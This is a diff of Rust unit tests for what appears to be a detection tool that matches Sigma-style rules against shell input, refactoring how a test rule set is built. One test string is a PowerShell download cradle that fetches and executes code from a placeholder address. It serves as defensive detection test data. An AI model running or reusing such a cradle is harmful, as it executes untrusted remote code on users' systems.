@@ -195,14 +195,10 @@ tags:
   - attack.t1059.001
 ";
 
-    fn rules() -> Arc<PayloadRules> {
-        let dir = std::env::temp_dir().join(format!("warden-payload-rules-{}", std::process::id()));
-        std::fs::create_dir_all(&dir).unwrap();
-        std::fs::write(dir.join("cradle.yml"), RULE).unwrap();
+    fn rule_set() -> Arc<RuleSet> {
         let mut b = RuleSetBuilder::new(Mapping::builtin());
-        b.add_path(&dir);
+        b.add_text(RULE, None);
         let set = b.build();
-        std::fs::remove_dir_all(&dir).ok();
         assert_eq!(
             set.detection_rules(),
             1,
@@ -212,7 +208,11 @@ tags:
                 .map(|s| s.error.to_string())
                 .collect::<Vec<_>>()
         );
-        Arc::new(PayloadRules::new(set))
+        Arc::new(set)
+    }
+
+    fn rules() -> Arc<PayloadRules> {
+        Arc::new(PayloadRules::new(rule_set()))
     }
 
     #[test]
@@ -240,18 +240,8 @@ tags:
 
     #[test]
     fn on_decoded_the_original_is_left_to_whoever_matched_the_event() {
-        let set = {
-            let dir =
-                std::env::temp_dir().join(format!("warden-payload-decoded-{}", std::process::id()));
-            std::fs::create_dir_all(&dir).unwrap();
-            std::fs::write(dir.join("cradle.yml"), RULE).unwrap();
-            let mut b = RuleSetBuilder::new(Mapping::builtin());
-            b.add_path(&dir);
-            std::fs::remove_dir_all(&dir).ok();
-            Arc::new(b.build())
-        };
         let a = Analyzer::new(None, VerdictConfig::default())
-            .with_source(Arc::new(PayloadRules::on_decoded(set)));
+            .with_source(Arc::new(PayloadRules::on_decoded(rule_set())));
         let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')";
         let sigma = |text: &str| -> Vec<usize> {
             a.analyze(text, Some(Shell::Powershell))
